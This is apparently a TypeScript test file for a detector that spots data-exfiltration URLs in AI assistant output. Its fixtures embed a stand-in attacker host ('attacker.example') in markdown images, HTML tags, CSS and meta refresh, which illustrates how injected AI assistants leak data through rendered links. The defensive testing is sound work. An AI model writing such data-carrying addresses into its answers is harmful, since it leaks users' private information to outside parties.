import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { detector } from "../markdown-exfil/detector.ts";
import { renderedAddresses } from "../markdown-exfil/rendered-addresses.ts";
import { checkStreamLaws } from "../testing/stream-laws.ts";
import { longestAddress, scanAddresses, type WrittenAddress } from "./index.ts";
import { benignAnswers } from "./testing/benign-answers.ts";

const scan = (text: string): WrittenAddress[] => {
  const found: WrittenAddress[] = [];
  scanAddresses(text, (address) => found.push(address));
  return found;
};
const seen = (text: string) => scan(text).map(({ kind, written }) => `${kind} ${written}`);
const there = "https://attacker.example/p?d=1";

describe("addresses in a text", () => {
  it.each([
    [`![a](${there})`, "image"],
    [`![a](<${there}> "title")`, "image"],
    [`![a long label that goes on ${"and on ".repeat(20)}](${there})`, "image"],
    [`[a](${there})`, "link"],
    [`![b]\n\n[b]: ${there}`, "definition"],
    [`<IMG\nSRC = '${there}' >`, "html-source"],
    [`<link rel=stylesheet href="${there}">`, "html-source"],
    [`<a href="${there}">x</a>`, "html-link"],
    [`<form action=${there}>`, "html-link"],
    [`<p style="background: URL( '${there}' )">`, "css"],
    [`@import "${there}"`, "css"],
    [`<meta http-equiv="refresh" content="0; url=${there}">`, "refresh"],
    [`(${there}).`, "bare"],
    [`<${there}>`, "bare"],
  ])("%s holds one of kind %s", (text, kind) => {
    expect(seen(text)).toEqual([`${kind} ${there}`]);
  });

  it("are found where renderedAddresses finds them in plain forms", () => {
    const form = fc.constantFrom(
      (url: string) => `![a](${url})`,
      (url: string) => `[a](${url} "t")`,
      (url: string) => `<img src="${url}">`,
      (url: string) => `<a href='${url}'>`,
      (url: string) => `<${url}>`,
      (url: string) => `see ${url}.`,
      (url: string) => `x{background:url(${url})}`,
    );
    const url = fc
      .webUrl({ withQueryParameters: true })
      .filter((one) => !/[()'<>"`|*_.,;:!?\]}]$|[()'"|]/u.test(one));
    fc.assert(
      fc.property(fc.array(fc.tuple(form, url), { maxLength: 5 }), (parts) => {
        const text = parts.map(([as, one]) => as(one)).join("\n");
        const expected = renderedAddresses(text).map(({ start, end }) => text.slice(start, end));
        expect(scan(text).map(({ written }) => written)).toEqual(expected);
      }),
    );
  });

  it("are not seen inside words, in relative addresses and behind signs that addresses have inside", () => {
    expect(seen("xhttps://a.example [a](/b?c=d) a:b http wwww.example http:")).toEqual(
      ["bare http"].slice(1).concat(seen("http:")),
    );
    expect(seen("https://a.example/?u=https://b.example/")).toHaveLength(1);
  });

  it("cost a bounded look each", () => {
    for (const hostile of [
      "https:",
      ":",
      "](//",
      "&#",
      'src="',
      "(&",
      "[a](https://a.example/?d=",
      "www.",
      "\\\\",
      "<a href=",
      "![".repeat(20),
    ])
      expect(
        scan(hostile.repeat(Math.ceil(300_000 / hostile.length))).every(
          ({ start, end }) => end - start <= longestAddress,
        ),
      ).toBe(true);
  });
});

describe("addresses that carry data", () => {
  it("do not include those of everyday answers", () => {
    const alarms = benignAnswers.flatMap((text) =>
      detector.inspect({ stage: "output", role: "assistant", text }).map(({ why }) => `${text}: ${why}`),
    );
    expect(alarms).toEqual([]);
  });

  it("keep the laws of streams", () => {
    const piece = fc.constantFrom(
      "![a](",
      "[b](",
      ")",
      "](",
      there,
      "//attacker.example/?d=12345",
      "https:",
      "http",
      "www.a.example/?d=123",
      '<img src="',
      "src=",
      '"',
      "'",
      " ",
      "\n",
      "h&#116;tps://a.example/?d=1",
      "&",
      "url(",
      "<",
      ">",
      "[c]: ",
      "word",
      "mailto:a@b.example?body=x",
      "content='0;url=",
      "x".repeat(90),
      "\\",
    );
    checkStreamLaws(detector, {
      texts: fc.array(piece, { maxLength: 9 }).map((pieces) => pieces.join("")),
      runs: 600,
    });
  });

  it("hold no more than the address that is being written", () => {
    const held = (text: string) => text.length - (detector.hold?.(text) ?? 0);
    expect(held("All is well. Time is 10:30, see a/b.")).toBe(0);
    expect(held(`Look: ![a](${there}`)).toBe(there.length);
    expect(held(`Look: ![a](${there})`)).toBe(0);
    expect(held("This is ht")).toBe(2);
  });
});
